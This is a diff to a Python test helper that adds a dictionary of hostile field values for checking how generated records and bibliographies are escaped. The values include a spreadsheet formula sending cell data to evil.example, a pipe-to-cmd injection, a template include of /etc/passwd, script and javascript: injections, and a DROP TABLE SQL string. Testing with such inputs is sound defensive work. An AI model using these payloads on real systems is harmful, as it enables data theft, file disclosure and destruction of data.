@@ -98,23 +98,54 @@ HOSTILE_FILES = {
 }
 
 
-def hostile_world() -> tuple[dict[str, str], set[str]]:
+# Words that mean something to what records are published in, NAME standing for the field's name.
+PAYLOADS = {
+    "nothing": "Plain words of NAME",
+    "script": HOSTILE,
+    "formula": '=HYPERLINK("https://evil.example/?"&A1;"NAME")',
+    "minus": "-1+1|cmd NAME",
+    "at sign": "@SUM(1,1) NAME",
+    "cdata": "]]></title><x>NAME</x><![CDATA[ &#x3c;b&#x3e; <!-- --!> <?xml?> <!DOCTYPE x",
+    "end of script": "</script><!--<script>NAME</script> &lt;/script&gt; */ // --> </SCRIPT >",
+    "template": "{{ config }}{% include '/etc/passwd' %}{# NAME #}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
+    "markdown": "[NAME](javascript:alert(1)) ![x](https://evil.example/x) <b> `x` [@said-threat] #",
+    "address": "javascript:alert('NAME') data:text/html,<script>alert(1)</script>",
+    "database": "'; DROP TABLE claims; -- NAME",
+    "other rows": "NAME END:VEVENT BEGIN:VEVENT TY  - ER  - {}, url = {x}, @online{y, z}",
+    "long word": "NAME" + "w" * 200,
+    "piled marks": "NAME" + "\u0334\u0341\u0323" * 40,
+    "right to left": "NAME كلمات من اليمين إلى اليسار 123 ABC",
+    # All that fits into a statement, the longest first: what is cut off is cut off its end.
+    "everything": (
+        "=1+1 </script></title><script>alert('NAME')</script><img src=x onerror=alert(1)> \"'> "
+        "{{7*7}}{% if %} ]]> <!-- javascript:alert(1) "
+        + "w" * 90
+        + " N"
+        + "\u0334\u0341\u0323" * 15
+        + " كلمات من اليمين إلى اليسار 123"
+    ),
+    "astral": "NAME \U0001f600\U0001f468 \U00020000 \u00ad",
+}
+
+
+def hostile_world(payload: str = "script") -> tuple[dict[str, str], set[str]]:
     """Return files in which every text that a reader sees is hostile, and the texts' names."""
     names = set(re.findall(r"(?<!\{)\{([a-z-]+)\}", "".join(HOSTILE_FILES.values())))
     files = {}
     for path, form in HOSTILE_FILES.items():
         bib = path.endswith(".bib")
-        files[path] = form.format_map({name: _quoted(name, bib) for name in names})
+        held = {name: _quoted(hostile(name, payload), bib) for name in names}
+        files[path] = form.format_map(held)
     return files, names
 
 
-def hostile(name: str) -> str:
+def hostile(name: str, payload: str = "script") -> str:
     """Return the hostile text that stands in the field of this name."""
-    return HOSTILE.replace("NAME", name)
+    return PAYLOADS[payload].replace("NAME", name)
 
 
-def _quoted(name: str, bib: bool) -> str:
+def _quoted(text: str, bib: bool) -> str:
     if bib:
         # Braces and backslashes mean something to BibTeX; an own escape says that they do not.
-        return "{" + re.sub(r"([{}&%])", r"\\\1", hostile(name)) + "}"
-    return "'" + hostile(name).replace("'", "''") + "'"
+        return "{" + re.sub(r"([{}&%$#_])", r"\\\1", text) + "}"
+    return "'" + text.replace("'", "''") + "'"
